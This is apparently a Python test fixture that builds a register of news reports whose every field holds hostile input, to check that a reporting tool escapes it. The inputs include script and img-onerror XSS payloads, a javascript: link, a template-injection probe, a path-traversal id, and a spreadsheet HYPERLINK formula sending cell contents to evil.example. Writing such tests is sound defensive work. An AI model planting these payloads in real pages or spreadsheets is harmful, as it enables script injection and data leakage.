"""A register whose every word is hostile: markup, event handlers, script links, formulas, ten megabytes of text."""

from __future__ import annotations

from pathlib import Path
from typing import Any

from communique.model.report import Report
from communique.register import Register
from communique.register.joining import join_claims

SCRIPT = "<script>window.hacked=1</script>"
IMAGE = '"><img src=x onerror="window.hacked=1">'
LINK = "javascript:window.hacked=1"
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"open")'
WORDS = f"{FORMULA} China {SCRIPT} and Pakistan {IMAGE} met in </textarea></title> Beijing {{{{ 7*7 }}}} trade"
REPORT = f"a/../b?x=1#y {IMAGE}"
OTHER = "other-report"
LONG = "ten-megabytes"
PLACE = {"name": WORDS, "country": "CHN", "lat": 39.9, "lon": 116.4, "precision": "city"}


def fill_hostile(path: Path) -> Path:
    """Make a register of hostile reports, two of which tell of the same; return its path."""
    with Register(path) as register:
        for id, day in ((REPORT, "2025-06-26"), (OTHER, "2025-06-27")):
            text = "\n".join([WORDS, f"{WORDS} again", f"@{WORDS}"])
            report = Report(
                id, text, f"{FORMULA} {SCRIPT}", f"+{IMAGE}", day, LINK, "en", f"{IMAGE}", Report.hash_of(text + id)
            )
            add(register, report, make_records(len(text)))
        long = f"{WORDS}\n" * (10_000_000 // len(WORDS))
        add(register, Report(LONG, long, "long", "outlet", "2025-06-27", None, "en", None, Report.hash_of(long)), {})
    return path


def add(register: Register, report: Report, records: dict[str, list[dict[str, Any]]]) -> None:
    with register.transaction():
        added = register.add(report, records, [("text-too-long", WORDS, IMAGE)], f"coder {IMAGE}")
        join_claims(register, added.claims)


def make_records(length: int) -> dict[str, list[dict[str, Any]]]:
    """Return a record of each kind whose evidence is nearly the whole text."""
    base = {"evidence": [[0, length - 2]], "confidence": 0.5, "rule": IMAGE, "topics": [IMAGE]}
    sides = {"by": ["CHN"], "matter": WORDS, "speaker": "p1", "event_type": "CONSULT"}
    dated = {"place": PLACE, "when": WORDS, "date": "2025-06-26"}
    participant = {"person": "p1", "name": f"Li {IMAGE}", "country": "CHN", "role": WORDS}
    casualty = {
        "outcome": "killed", "class": "civilians", "count": 3, "qualifier": IMAGE, "source": WORDS,
        "evidence": [[0, 5]],
    }  # fmt: skip
    return {
        "people": [{
            "id": "p1", "name": f"Li {IMAGE}", "country": "CHN", "office": WORDS, "mentions": [[0, 4]],
        }],
        "bodies": [{
            "id": "b1", "name": f"{FORMULA} Bank", "acronym": SCRIPT, "kind": "other", "country": "CHN",
            "mentions": [[0, 4]],
        }],
        "engagements": [
            base | dated | {
                "id": 'e1"><b>', "kind": "meeting", "status": "planned", "parties": ["CHN", "PAK"],
                "participants": [participant], "event_type": "CONSULT",
            }
        ],
        "undertakings": [
            base | sides | {
                "id": "u1", "act": "commit", "to": ["PAK"], "amounts": [{"value": 5, "currency": IMAGE}],
                "due": "2025-12-31", "engagement": 'e1"><b>',
            }
        ],
        "statements": [base | sides | {"id": "s1", "stance": "praise", "about": ["PAK"]}],
        "actions": [base | sides | dated | {"id": "a1", "type": "aid", "to": ["PAK"]}],
        "incidents": [
            base | dated | {
                "id": "i1", "kind": "attack", "name": WORDS, "perpetrator": IMAGE, "casualties": [casualty],
                "event_type": "ASSAULT",
            }
        ],
        "figures": [base | {
            "id": "f1", "value": 7, "unit": "people", "measure": WORDS, "period": IMAGE, "source": SCRIPT,
        }],
    }  # fmt: skip
